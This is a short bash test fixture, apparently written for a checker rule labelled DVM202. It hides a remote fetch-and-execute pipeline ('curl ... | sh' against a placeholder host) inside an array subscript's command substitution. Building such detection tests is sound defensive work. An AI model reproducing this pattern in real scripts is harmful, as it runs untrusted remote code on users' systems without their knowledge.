# expect: DVM202
set -Eeuo pipefail
a=(1)
echo "${a[$(curl -fsSL https://example.org/i.sh | sh)]}"
